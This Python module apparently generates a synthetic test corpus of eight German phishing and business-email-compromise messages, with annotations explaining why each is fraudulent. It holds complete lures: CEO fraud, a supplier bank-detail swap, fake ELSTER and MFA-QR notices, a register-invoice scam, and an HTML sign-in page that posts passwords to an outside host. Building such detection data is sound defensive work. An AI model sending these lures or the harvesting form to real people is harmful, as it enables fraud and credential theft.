"""Attack messages, German (8)."""
import infra as I
import kit as K
import facts as F
from checks import iban_fmt
from company import S
from util import rng_for


def M(**kw):
    kw.setdefault("lang", "de")
    return kw


def a01():
    text = """Guten Morgen Frau Köhler,

ich sitze heute und morgen in Amsterdam in den Gesprächen zu dem Projekt, das wir im Sommer kurz angerissen hatten. Die Sache ist jetzt sehr kurzfristig konkret geworden: Wir übernehmen 100 % der Anteile an der Van Leeuwen Steigerwerk B.V. in Rotterdam. Das Signing ist für Freitag beim Notar angesetzt.

Die Verkäuferseite verlangt als Zeichen der Ernsthaftigkeit eine Anzahlung von 10 % des Kaufpreises auf das Anderkonto der begleitenden Kanzlei, das sind 487.500,00 €. Die Details (Kontoverbindung, Verwendungszweck) schickt Ihnen Herr Dr. Berendsen von der Kanzlei im Laufe des Vormittags direkt.

Ich muss Sie um absolute Vertraulichkeit bitten. Bis zur offiziellen Meldung darf außer Ihnen niemand im Haus davon wissen, auch nicht Herr Groß oder die Buchhaltung - das hat der Aufsichtsrat ausdrücklich so festgelegt. Bitte nehmen Sie die Zahlung deshalb nicht in den normalen Freigabe-Workflow, sondern als Einzelüberweisung mit Ihrer Freigabe; ich zeichne das nach meiner Rückkehr nach.

Telefonisch bin ich während der Verhandlungen nicht erreichbar, bitte schreiben Sie mir ausschließlich an diese Adresse. Können Sie mir kurz bestätigen, dass Sie heute noch eine Auslandsüberweisung anweisen können?

Vielen Dank für Ihre Diskretion.

Beste Grüße
Dr. Klaus Wagner
Vorstandsvorsitzender
Example Group SE
"""
    return M(
        slug="ceo-fraud-uebernahme-anderkonto",
        what="CEO fraud: 'Dr. Klaus Wagner' asks the CFO to pay a EUR 487,500 'deposit' for a secret acquisition; a lawyer will send the account details.",
        why="Look-alike domain examplegroup-se.com on a Hetzner VPS (Roundcube); secrecy, bypass of the approval workflow, CEO 'not reachable by phone', third party 'lawyer' to supply the account: textbook BEC/CEO fraud.",
        to=S["cfo"], frm=("Dr. Klaus Wagner", "klaus.wagner@examplegroup-se.com"),
        subject="Vertraulich - Projekt Falke", hcs="iso-8859-15", henc="Q",
        when=(10, 14, 8, 47), zone="DE",
        infra=lambda c: I.vps_postfix(c, "mail.examplegroup-se.com", "static.142.87.13.49.clients.your-server.de", "49.13.87.142", mua="roundcube"),
        body=K.plain(text, "iso-8859-15", "quoted-printable", flowed=True, quote_cs=False, label="ISO-8859-15"),
    )


def a02():
    r = rng_for("a02-pdf")
    text = """Sehr geehrter Herr Weiß,

im Zuge der Zusammenführung des Zahlungsverkehrs in unserer Unternehmensgruppe ändert sich unsere Bankverbindung mit sofortiger Wirkung. Bitte hinterlegen Sie für alle künftigen Zahlungen an die Lieferant GmbH ausschließlich die folgende Verbindung:

Kontoinhaber: Lieferant GmbH
Bank: Revolut Bank UAB, Zweigniederlassung Deutschland
IBAN: %s
BIC: REVOLT21

Unsere bisherige Verbindung bei der Sparkasse Siegen wird zum 31.10.2026 aufgelöst. Zahlungen, die danach dort eingehen, können nicht mehr zugeordnet werden und gehen an den Auftraggeber zurück.

Betroffen sind insbesondere die noch offenen Rechnungen RE-2026-10388 (14.862,30 €) und RE-2026-10412 (9.417,85 €), die laut unserer OP-Liste diese Woche fällig werden. Wir bitten, beide bereits auf das neue Konto zu überweisen.

Das offizielle Schreiben mit Unterschrift der Geschäftsführung finden Sie im Anhang. Bitte bestätigen Sie uns die Änderung Ihrer Stammdaten kurz per Antwort auf diese E-Mail.

Mit freundlichen Grüßen

i. A. Melanie Brandt
Finanzbuchhaltung / Kreditorenmanagement

Lieferant GmbH
Industriestraße 14 · 57078 Siegen
Tel. +49 271 48859-0
www.lieferant-gmbh.de
Amtsgericht Siegen HRB 6214 · USt-IdNr. %s
""" % (iban_fmt(F.MULE_LT), F.LIEFERANT_USTID)
    pdf = K.pdf_att("Bankverbindung_Lieferant_GmbH_2026.pdf", [
        "# Lieferant GmbH", "Industriestraße 14 · 57078 Siegen", "---", "",
        "An alle Kunden der Lieferant GmbH", "", "Siegen, 19.10.2026", "",
        "## Mitteilung über die Änderung unserer Bankverbindung", "",
        "Sehr geehrte Damen und Herren,", "",
        "im Rahmen der Neuordnung unseres Zahlungsverkehrs bitten wir Sie, Zahlungen ab sofort",
        "ausschließlich auf folgendes Konto zu leisten:", "",
        "Kontoinhaber: Lieferant GmbH", "Kreditinstitut: Revolut Bank UAB",
        "IBAN: " + iban_fmt(F.MULE_LT), "BIC: REVOLT21", "",
        "Die bisherige Bankverbindung (Sparkasse Siegen) wird zum 31.10.2026 geschlossen.", "",
        "Mit freundlichen Grüßen", "", "Lieferant GmbH", "Die Geschäftsführung", "",
        "---", "Amtsgericht Siegen HRB 6214 · USt-IdNr. " + F.LIEFERANT_USTID,
    ], title="Bankverbindung", producer="iLovePDF", creator="Microsoft Word", created="D:20261019172311+02'00'")
    return M(
        slug="lieferant-bankverbindung-lookalike",
        what="Supplier bank-detail change: 'Lieferant GmbH accounts' announces a new account at a Lithuanian neobank and asks to pay two open invoices there.",
        why="Sender domain lieferant-gmbh.com is a look-alike of the real lieferant-gmbh.de and is sent from an OVH VPS; unknown signer, foreign e-money account for a German supplier, deadline, confirmation 'by reply' only (no call-back) - supplier-impersonation BEC.",
        to=S["ap"], frm=("Lieferant GmbH | Buchhaltung", "rechnungen@lieferant-gmbh.com"),
        subject="Änderung unserer Bankverbindung - bitte ab sofort verwenden", hcs="windows-1252", henc="Q",
        when=(10, 20, 10, 32), zone="DE",
        infra=lambda c: I.vps_postfix(c, "mail.lieferant-gmbh.com", "vps-3f21a9c4.vps.ovh.net", "51.75.144.203", mua="outlook"),
        body=K.mixed(K.alt(text, "windows-1252", "quoted-printable", "outlook", "de", label="Windows-1252"), pdf),
    )


def a03():
    text = """Sehr geehrte Nutzerin, sehr geehrter Nutzer,

mit der Umstellung der Unternehmensauthentifizierung werden ELSTER-Organisationszertifikate schrittweise durch das bundeseinheitliche „Mein Unternehmenskonto“ (MUK) ersetzt.

Für die Organisation **Example Group SE** (Steuernummer 5133/5741/0382) liegt uns noch keine Bestätigung der Umstellung vor. Ihr bestehendes Organisationszertifikat wird daher am **30.11.2026** gesperrt. Ab diesem Zeitpunkt können Umsatzsteuer-Voranmeldungen, Lohnsteuer-Anmeldungen und Zusammenfassende Meldungen nicht mehr übermittelt werden.

Bitte bestätigen Sie die Umstellung bis spätestens 06.11.2026:

[[!Umstellung jetzt bestätigen|https://muk-elster.de-verifizierung.info/anmelden?org=5133574103820&t=7f3a9c2e41b8]]

Halten Sie hierfür Ihre Zertifikatsdatei (.pfx) und die zugehörige PIN bereit.

Mit freundlichen Grüßen
Ihr ELSTER-Team

Diese Nachricht wurde automatisch erstellt. Bitte antworten Sie nicht auf diese E-Mail.
"""
    return M(
        slug="elster-mein-unternehmenskonto-phish",
        what="Fake ELSTER / 'Mein Unternehmenskonto' notice: organisation certificate will be blocked unless the switch is 'confirmed' with the .pfx file and PIN.",
        why="Sent by a PHP script on a compromised physiotherapy website (shared cPanel host); link to the look-alike host muk-elster.de-verifizierung.info; asks for the certificate file and PIN. ELSTER never mails links asking for certificates.",
        to=S["ar"], frm=("ELSTER | Mein Unternehmenskonto", "noreply@physio-am-rathausplatz.de"),
        subject="Ihr ELSTER-Organisationszertifikat wird am 30.11.2026 gesperrt - Umstellung bestätigen",
        hcs="utf-8", henc="Q",
        when=(10, 22, 7, 58), zone="DE",
        infra=lambda c: I.exim_cpanel(c, "srv04.wh-hosting24.de", "185.228.137.44", php=True, script="physioam"),
        envelope="physioam@srv04.wh-hosting24.de",
        body=K.alt(text, "utf-8", "8bit", "mail", "de", title="ELSTER", quote_cs=False,
                   button="display:inline-block;padding:11px 24px;background:#1d5a8e;color:#fff;text-decoration:none;font-weight:bold"),
    )


def a04():
    email = S["ap"].addr
    viewer = """<!DOCTYPE html>
<html lang="de"><head><meta charset="utf-8"><title>XRechnung-Viewer - Anmeldung</title>
<style>body{font-family:Segoe UI,Arial,sans-serif;background:#f2f2f2}.box{width:380px;margin:80px auto;background:#fff;padding:36px;box-shadow:0 2px 6px rgba(0,0,0,.2)}
input{width:100%;padding:8px;margin:8px 0;border:0;border-bottom:1px solid #666}button{background:#0067b8;color:#fff;border:0;padding:8px 32px;float:right}</style></head>
<body><div class="box">
<div style="font-size:20px;font-weight:600">Anmelden</div>
<p style="font-size:13px">Um die geschützte E-Rechnung <b>2026-08841</b> (Rohrwerk Sauerland GmbH, 23.780,44 EUR) anzuzeigen, bestätigen Sie bitte Ihr Geschäftskonto.</p>
<form method="post" action="https://xrechnung-viewer.pages.dev/api/v2/session">
<input type="email" name="login" value="@@EMAIL@@" readonly>
<input type="password" name="passwd" placeholder="Kennwort">
<input type="hidden" name="doc" value="2026-08841">
<button type="submit">Anmelden</button>
</form>
<p style="clear:both;font-size:11px;color:#666;padding-top:24px">Sicherer Dokumentenabruf · TLS 1.3 · Ende-zu-Ende verschlüsselt</p>
</div></body></html>
""".replace("@@EMAIL@@", email)
    text = """Guten Tag,

über das E-Rechnungs-Eingangsportal wurde für Sie folgende E-Rechnung bereitgestellt:

Rechnungssteller: Rohrwerk Sauerland GmbH
Belegnummer: 2026-08841
Format: XRechnung 3.0.2 (UBL)
Rechnungsbetrag: 23.780,44 EUR
Fälligkeit: 30.10.2026

Seit dem 01.01.2025 sind Unternehmen zum Empfang strukturierter E-Rechnungen verpflichtet. Aus Datenschutzgründen ist die Rechnung als geschützte Vorschau beigefügt. Zum Öffnen der Datei melden Sie sich mit Ihrem Microsoft-365-Geschäftskonto an.

Bei Rückfragen zur Rechnung wenden Sie sich bitte direkt an den Rechnungssteller.

Ihr E-Rechnung Eingangsservice
"""
    return M(
        slug="xrechnung-html-anhang-m365",
        what="Fake e-invoice (XRechnung) delivery notice with an HTML attachment that is a Microsoft 365 sign-in form pre-filled with the recipient's address.",
        why="Bulk-sent via SendGrid from the unrelated domain erechnung-eingang.de; real XRechnungen are XML files, not HTML 'viewers'; the attachment posts the password to xrechnung-viewer.pages.dev (abused Cloudflare Pages). Credential phishing riding on the 2025 e-invoicing obligation and a real supplier's name.",
        to=S["ap"], frm=("E-Rechnung Eingangsportal", "noreply@erechnung-eingang.de"),
        subject="Neue E-Rechnung von Rohrwerk Sauerland GmbH - Beleg 2026-08841 (XRechnung)",
        when=(10, 28, 9, 12), zone="DE",
        infra=lambda c: I.sendgrid(c, "em7713.erechnung-eingang.de"),
        body=K.mixed(K.alt(text, "utf-8", "quoted-printable", "mail", "de", title="E-Rechnung"),
                     K.att(viewer, "text/html", "XRechnung_2026-08841.html")),
    )


def a05():
    target = S["hr"]
    url = "https://sso-examplegroup.auth-mfa.eu/r/?u=%s&k=94c1e07b" % target.addr
    png = K.qr_png_bytes(url, "M", 5)
    text = """Hallo Anja Schröder,

im Rahmen der Umstellung auf die neue Microsoft-Authenticator-Richtlinie (Nummernabgleich) muss Ihr Konto %s bis zum 27.10.2026 neu registriert werden.

Bitte scannen Sie dazu den folgenden QR-Code mit der Kamera Ihres Smartphones und folgen Sie den Anweisungen. Der Vorgang dauert etwa zwei Minuten.

{{img:mfa-qr-8841|QR-Code}}

Konten, die bis zum Stichtag nicht neu registriert wurden, werden aus Sicherheitsgründen vorübergehend gesperrt. Eine Freischaltung ist dann nur über das IT-Service-Desk möglich.

Vielen Dank für Ihre Mithilfe
Ihr IT-Service
Example Group
""" % target.addr
    body = K.related(K.alt(text, "iso-8859-1", "quoted-printable", "outlook", "de"), K.inline_png(png, "image001.png", "mfa-qr-8841", style="outlook"))
    return M(
        slug="quishing-mfa-neuregistrierung",
        what="Quishing: 'IT-Service Example Group' asks to re-register MFA by scanning an inline QR code; otherwise the account will be locked.",
        why="Sent from a compromised tax-adviser Exchange Online tenant (hartmann-steuerberatung.de) with the display name of Example Group IT; the QR code (real, decodable) leads to sso-examplegroup.auth-mfa.eu with the victim's address - an adversary-in-the-middle login page. QR used to move the click to an unmanaged phone.",
        to=target, frm=("IT-Service Example Group", "it-service@hartmann-steuerberatung.de"),
        subject="Aktion erforderlich: MFA-Neuregistrierung bis 27.10.2026", hcs="iso-8859-1", henc="Q",
        when=(10, 23, 16, 41), zone="DE",
        infra=lambda c: I.exo(c, lang="de-DE"),
        body=body,
    )


def a06():
    lines = [
        "# DRG Deutsches Register für Gewerbe und Handel", "Zentrale Registerverwaltung · Postfach 10 14 62 · 20009 Hamburg", "---", "",
        "Example Group SE", "Heerdter Lohweg 212", "40549 Düsseldorf", "",
        "## Eintragungsantrag / Zahlungsaufforderung Nr. DRG-2026-774193", "",
        "Registergericht: Amtsgericht Düsseldorf        Registernummer: HRB 84127",
        "Bekanntmachung vom: 02.10.2026                  Eintragungszeitraum: 24 Monate", "",
        "Leistung                                                         Betrag",
        "Eintragung und Veröffentlichung im DRG-Gewerbeverzeichnis    1.005,29 EUR",
        "zzgl. 19 % USt.                                                 191,00 EUR",
        "Zu zahlen                                                     1.196,29 EUR", "",
        "Bitte überweisen Sie den Betrag innerhalb von 10 Tagen unter Angabe der Vorgangsnummer:",
        "Empfänger: DRG Registerdienst", "IBAN: " + iban_fmt(F.REGISTER_DE), "BIC: BYLADEM1001",
        "Verwendungszweck: DRG-2026-774193 HRB 84127", "", "",
        "Hinweis: Die DRG ist ein privatwirtschaftliches Verzeichnis und steht in keiner Verbindung zum",
        "Handelsregister oder zu einer Behörde. Mit Zahlung des Betrags erteilen Sie den Auftrag zur",
        "Eintragung für die Dauer von 24 Monaten; der Vertrag verlängert sich um jeweils 12 Monate,",
        "sofern er nicht 3 Monate vor Ablauf schriftlich gekündigt wird. Es gelten unsere AGB.",
    ]
    text = """Sehr geehrte Damen und Herren,

auf Grundlage der Bekanntmachung des Registergerichts Düsseldorf vom 02.10.2026 zu Ihrer Gesellschaft Example Group SE (HRB 84127) haben wir den Datensatz zur Eintragung vorbereitet.

Im Anhang erhalten Sie den Eintragungsantrag mit der Zahlungsaufforderung Nr. DRG-2026-774193 über 1.196,29 EUR. Um eine fristgerechte Bearbeitung zu gewährleisten, begleichen Sie den Betrag bitte innerhalb von 10 Tagen.

Mit freundlichen Grüßen
Registerverwaltung
DRG Deutsches Register für Gewerbe und Handel
"""
    return M(
        slug="registereintrag-zahlungsaufforderung",
        what="Fake register invoice: 'DRG Deutsches Register für Gewerbe und Handel' sends a 'payment request' of EUR 1,196.29 for a commercial-register entry (PDF).",
        why="Looks like an official Handelsregister fee but is an offer for a worthless private directory with a 24-month auto-renewing contract hidden in the small print; mass-mailed via Brevo from a recently registered domain; the real register court never invoices by e-mail like this.",
        to=S["ar"], frm=("DRG Registerverwaltung", "service@drg-registerdienst.de"),
        subject="Zahlungsaufforderung DRG-2026-774193 - Eintragung Example Group SE, HRB 84127",
        when=(11, 4, 6, 15), zone="DE",
        infra=lambda c: I.brevo(c, campaign=False),
        body=K.mixed(K.alt(text, "utf-8", "quoted-printable", "mail", "de", title="DRG"),
                     K.pdf_att("Eintragungsantrag_DRG-2026-774193.pdf", lines, producer="Skia/PDF m126", creator="Chromium",
                               created="D:20261103211408+01'00'", title="Eintragungsantrag")),
    )


def a07():
    r = rng_for("a07-zip")
    text = """Hallo Herr Groß,

anbei wie gestern besprochen die aktualisierte Preisliste 2027 inkl. der neuen Staffel für Vertikalrahmen und Stahlbeläge. Aus Datenschutzgründen haben wir die Datei verschlüsselt, das Kennwort lautet: LG2027

Bitte geben Sie mir bis Donnerstag kurz Rückmeldung, damit wir die Konditionen noch vor dem Jahresgespräch fixieren können.

Viele Grüße
Petra Lang
Vertriebsinnendienst

Lieferant GmbH
Industriestraße 14 · 57078 Siegen
Tel. +49 271 48859-214

Am 26.10.2026 um 15:22 schrieb Markus Groß:
> Hallo Frau Lang,
>
> vielen Dank für das Telefonat. Wie besprochen benötigen wir für die
> Verhandlung des Rahmenvertrags 2027 die aktuelle Preisliste für
> Systemgerüst (Rahmen 0,73 m und 1,09 m, Beläge, Diagonalen) sowie Ihre
> Staffelkonditionen ab 40 t Abnahme.
>
> Mit freundlichen Grüßen
> Markus Groß
> Leiter Einkauf
> Example Group SE
"""
    z = K.zip_att("Preisliste_2027_Lieferant_GmbH.zip", [("Preisliste_2027_Lieferant_GmbH.pdf.js", K.stub("js"))], password="LG2027", rng=r,
                  dt=(2026, 10, 27, 10, 58, 12))
    return M(
        slug="thread-hijack-lieferant-zip-passwort",
        what="Thread hijack: reply from the real mailbox of Petra Lang (Lieferant GmbH) in an existing procurement thread, with a password-protected ZIP 'price list'.",
        why="Genuine supplier address and server, but sent through the supplier's webmail from an unusual client (her normal mail comes from Outlook); the encrypted ZIP hides a double-extension script 'Preisliste_2027_Lieferant_GmbH.pdf.js' (inert placeholder here); password-in-body is used to defeat gateway scanning. Compromised-partner mailbox used for malware delivery.",
        to=S["proc"], frm=("Petra Lang", "p.lang@lieferant-gmbh.de"),
        subject="AW: Rahmenvertrag 2027 - Preisliste Systemgerüst", hcs="utf-8", henc="Q",
        in_reply_to="<1f6b2c9e0d8a4e57b3c2a19f7e4d5c60@EXCH01.corp.example.com>",
        when=(10, 27, 11, 6), zone="DE",
        infra=lambda c: I.postfix_own(c, "mail.lieferant-gmbh.de", "88.99.148.21", None, None, mua="roundcube",
                                      webmail_host="webmail.lieferant-gmbh.de", ua="Roundcube Webmail/1.6.6"),
        body=K.mixed(K.plain(text, "utf-8", "quoted-printable", flowed=True, quote_cs=False, label="UTF-8"), z),
    )


def a08():
    text = """Sehr geehrte Damen und Herren,

zu dem Vergabeverfahren

Gerüstarbeiten Neubau Klinikum Krefeld-Nord, Los 4 (Fassadengerüst Bauteil B und C)
Aktenzeichen: VgV-2026-1187
Vergabestelle: Klinikbau Niederrhein GmbH

hat die Vergabestelle geänderte Vergabeunterlagen bereitgestellt (Leistungsverzeichnis Revision 2, Gerüstplanung Bauteil C). Die Angebotsfrist wurde auf den 19.11.2026, 10:00 Uhr verlängert.

Die geänderten Unterlagen stehen Ihnen ausschließlich über den folgenden Link zur Verfügung:

[[Vergabeunterlagen Revision 2 öffnen|https://acrobat.adobe.com/id/urn:aaid:sc:EU:4b1e7f0c-9a2d-4c61-8e53-2d7f10a6c1b9]]

Bitte beachten Sie, dass Angebote auf Grundlage der alten Unterlagen nicht gewertet werden können. Zum Abruf melden Sie sich mit den Zugangsdaten Ihres Unternehmenskontos an.

Mit freundlichen Grüßen
Bieterservice
Vergabeplattform Niederrhein
"""
    return M(
        slug="vergabeunterlagen-adobe-link",
        what="Fake tender notice: 'revised tender documents' for a scaffolding lot of a hospital new-build, only available through a shared Adobe Acrobat link.",
        why="Mailgun mail from the look-alike platform vergabe-bieterportal.de; real e-procurement platforms (DTVP, evergabe) deliver changes inside the platform, not via third-party shares; the abused genuine Adobe Acrobat cloud share only carries a button to a credential page ('Zugangsdaten Ihres Unternehmenskontos'). Trade-specific lure aimed at sales.",
        to=S["sales"], frm=("Vergabeplattform Niederrhein - Bieterservice", "bieterservice@vergabe-bieterportal.de"),
        subject="Änderung der Vergabeunterlagen - Gerüstarbeiten Klinikum Krefeld-Nord, Los 4 (VgV-2026-1187)",
        when=(11, 10, 13, 24), zone="DE",
        infra=lambda c: I.mailgun(c, "mg.vergabe-bieterportal.de"),
        body=K.alt(text, "utf-8", "quoted-printable", "mail", "de", title="Vergabeplattform"),
    )


def build():
    return [a01(), a02(), a03(), a04(), a05(), a06(), a07(), a08()]
